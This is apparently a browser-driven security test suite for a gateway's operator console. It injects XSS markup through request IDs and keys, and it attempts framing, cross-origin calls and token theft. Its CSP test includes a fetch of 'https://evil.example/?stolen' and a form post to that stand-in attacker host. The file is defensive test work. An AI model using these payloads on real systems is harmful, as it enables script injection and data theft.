// Attacks on the operators' console in Chromium: by text from origins and callers in the journal, by pages that try to
// frame it or to make calls for it, and by pages of the API, which have the same origin.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, test } from "node:test";
import { created, inTurn, newKey, recordName, startGateway } from "../worker/fixtures/support.mjs";
import { Operator, TOKEN, admin } from "./operator.mjs";
import { startBrowser } from "./support.mjs";

/** Texts that would run if they were read as markup, or leave an attribute. */
const MARKUP = ['<img/src=x/onerror=attacked=1>', '"><script>attacked=1</script>', "'onmouseover='attacked=1", "javascript:attacked=1", "</title><svg/onload=attacked=1>"];

describe("the console under attack", () => {
  let browser, gateway, evil;
  before(async () => {
    const vars = { ADMIN_TOKEN: TOKEN, BUSINESS_KEYS: "POST:/o/*:/no" };
    [browser, gateway] = await Promise.all([startBrowser(), startGateway({ vars })]);
    evil = createServer((_, response) => response.setHeader("Content-Type", "text/html").end("<title>evil</title>"));
    await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
    await gateway.get("/_oncekey/keys", { headers: admin, as: null });
  });
  after(async () => {
    await browser.close();
    await gateway.dispose();
    evil.close();
  });

  const newContext = () => browser.newContext({ viewport: { width: 1280, height: 800 } });

  test("text from origins and callers is shown as text and never runs", async () => {
    const keys = [];
    for (const markup of MARKUP) {
      const key = newKey();
      const tenant = `tenant-${keys.length}`;
      // Request ids that an origin may choose (they are visible ASCII), and business keys of callers.
      const response = (status) => ({ status, headers: { "X-Request-Id": markup, "Content-Type": "application/json" }, body: "{}" });
      await gateway.post(gateway.route(inTurn(() => response(500), created)), key, { no: `${markup}${newKey()}` }, { as: tenant });
      keys.push(recordName(key, tenant));
    }
    const context = await newContext();
    try {
      const operator = await Operator.atDesk(context, gateway);
      const { page } = operator;
      for (const [at, hash] of keys.entries()) {
        await page.locator(`[data-hash="${hash}"]`).click({ timeout: 180_000 });
        await page.waitForFunction((start) => document.querySelector("#life-title code").textContent.startsWith(start) && !document.querySelector("#one-life").hidden, hash.slice(0, 8));
        assert.ok((await page.locator("#one-life").textContent()).includes(MARKUP[at]), "the text is shown unchanged");
        await page.locator("#one-life *").evaluateAll((nodes) => nodes.forEach((node) => node.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))));
      }
      assert.equal(await page.evaluate(() => globalThis.attacked), undefined);
      assert.equal(await page.locator("main img, main script, main a[href^=javascript], main [onmouseover]").count(), 0);
      // The page called only the gateway, and the token is in no URL and no storage.
      for (const { url } of operator.requests) {
        assert.ok(url.startsWith(gateway.url) || url.startsWith("data:"), url);
        assert.ok(!url.includes(TOKEN));
      }
      const kept = await page.evaluate(async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, await indexedDB.databases(), await caches.keys()]));
      assert.ok(!kept.includes(TOKEN), kept);
      operator.isSound();
    } finally {
      await context.close();
    }
  });

  test("the content security policy blocks an injected script", async () => {
    const context = await newContext();
    try {
      const { page } = await Operator.atDesk(context, gateway);
      const violations = await page.evaluate(async () => {
        const seen = [];
        addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
        const script = document.createElement("script");
        script.textContent = "attacked = 1";
        const button = document.createElement("button");
        button.setAttribute("onclick", "attacked = 1");
        const base = document.createElement("base");
        base.href = "https://evil.example/";
        document.body.append(script, button);
        button.click();
        document.head.append(base);
        await fetch("https://evil.example/?stolen").catch(() => {});
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 300));
        return seen;
      });
      for (const directive of ["script-src-elem", "script-src-attr", "base-uri", "connect-src", "form-action"]) {
        assert.ok(violations.includes(directive), `${directive} in ${violations}`);
      }
      assert.equal(await page.evaluate(() => globalThis.attacked), undefined);
    } finally {
      await context.close();
    }
  });

  test("another page cannot frame the console, read its window or make calls for it", async () => {
    const context = await newContext();
    try {
      const key = newKey();
      await gateway.post(gateway.route(inTurn(500, created)), key);
      await Operator.atDesk(context, gateway);
      const page = await context.newPage();
      await page.goto(`http://127.0.0.1:${evil.address().port}/`);
      const reached = await page.evaluate(
        async ({ url, name, token }) => {
          const frame = document.createElement("iframe");
          frame.src = `${url}/_oncekey/console`;
          document.body.append(frame);
          await new Promise((resolve) => (frame.onload = frame.onerror = resolve));
          const attempt = async (init) => fetch(`${url}/_oncekey/key/settle`, { method: "POST", body: '{"outcome":"not_executed"}', credentials: "include", ...init }).then((response) => response.status, () => "refused");
          return {
            plain: await attempt({ mode: "no-cors" }),
            named: await attempt({ headers: { "X-Oncekey-Name": name } }),
            withToken: await attempt({ headers: { "X-Oncekey-Name": name, Authorization: `Bearer ${token}` } }),
          };
        },
        { url: gateway.url, name: recordName(key), token: TOKEN },
      );
      assert.deepEqual(page.frames().map((frame) => new URL(frame.url()).protocol).toSorted(), ["chrome-error:", "http:"], "the frame stays empty");
      // A request without the headers is sent, but the page cannot read its response, a 401.
      assert.deepEqual(reached, { plain: 0, named: "refused", withToken: "refused" });
      const opened = await Promise.all([context.waitForEvent("page"), page.evaluate((url) => void (globalThis.child = open(url)), `${gateway.url}/_oncekey/console`)]);
      await opened[0].waitForLoadState();
      assert.equal(await page.evaluate(() => child.closed), true, "the console's window is separated from the window that opened it");
      assert.equal((await gateway.status(key)).state, "unknown");
    } finally {
      await context.close();
    }
  });

  test("a page of the API with the same origin finds no token", async () => {
    const path = gateway.route(() => ({ headers: { "Content-Type": "text/html" }, body: "<title>of the API</title>" }));
    const context = await newContext();
    try {
      const { page: desk } = await Operator.atDesk(context, gateway);
      const page = await context.newPage();
      await page.goto(gateway.url + path);
      const found = await page.evaluate(async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, await caches.keys()]));
      assert.ok(!found.includes(TOKEN));
      // The page cannot access the console's window either, even if it opens the console itself.
      const [opened] = await Promise.all([context.waitForEvent("page"), page.evaluate(() => void (globalThis.child = open("/_oncekey/console")))]);
      await opened.waitForLoadState();
      assert.equal(await page.evaluate(() => child.closed), true);
      assert.equal(await desk.title().then((title) => /console/.test(title)), true);
    } finally {
      await context.close();
    }
  });
});
